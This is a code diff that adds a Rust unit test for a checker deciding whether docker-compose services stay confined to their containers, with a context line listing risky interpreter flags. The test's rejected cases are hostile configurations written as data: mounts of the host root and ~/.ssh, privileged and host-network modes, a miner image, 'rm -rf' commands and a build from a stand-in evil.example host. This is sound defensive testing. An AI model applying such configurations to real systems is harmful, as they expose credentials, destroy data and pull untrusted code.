@@ -112,3 +112,35 @@ fn is_quiet(command: &Yaml) -> bool {
         && words.first().is_some_and(|word| harmless.contains(word))
         && !words.iter().any(|word| matches!(*word, "-c" | "-e" | "-m" | "--eval" | "exec" | "-p" | "--require" | "-r"))
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_reaches_beyond_the_containers() {
+        let inside = |service: &str| stays_inside(&format!("services:\n  x:\n{service}"));
+        for service in [
+            "    image: postgres:16\n    ports: ['5432:5432']\n",
+            "    image: redis\n    volumes: ['data:/data']\n",
+            "    build: .\n    command: npm start\n    volumes: ['.:/app']\n",
+        ] {
+            assert!(inside(service), "{service}");
+        }
+        for service in [
+            "    image: postgres:16\n    volumes: ['/:/host']\n",
+            "    image: postgres:16\n    volumes: ['~/.ssh:/k']\n",
+            "    image: postgres:16\n    volumes: ['../x:/k']\n",
+            "    image: postgres:16\n    volumes: ['${HOME}:/k']\n",
+            "    image: postgres:16\n    privileged: true\n",
+            "    image: postgres:16\n    network_mode: host\n",
+            "    image: postgres:16\n    pid: host\n",
+            "    image: evil/miner\n",
+            "    image: alpine\n    volumes: ['.:/w']\n    command: sh -c 'rm -rf /w'\n",
+            "    image: alpine\n    volumes: ['.:/w']\n    entrypoint: [sh, -c, 'rm -rf /w']\n",
+            "    build: https://evil.example/x.git\n",
+        ] {
+            assert!(!inside(service), "{service}");
+        }
+    }
+}
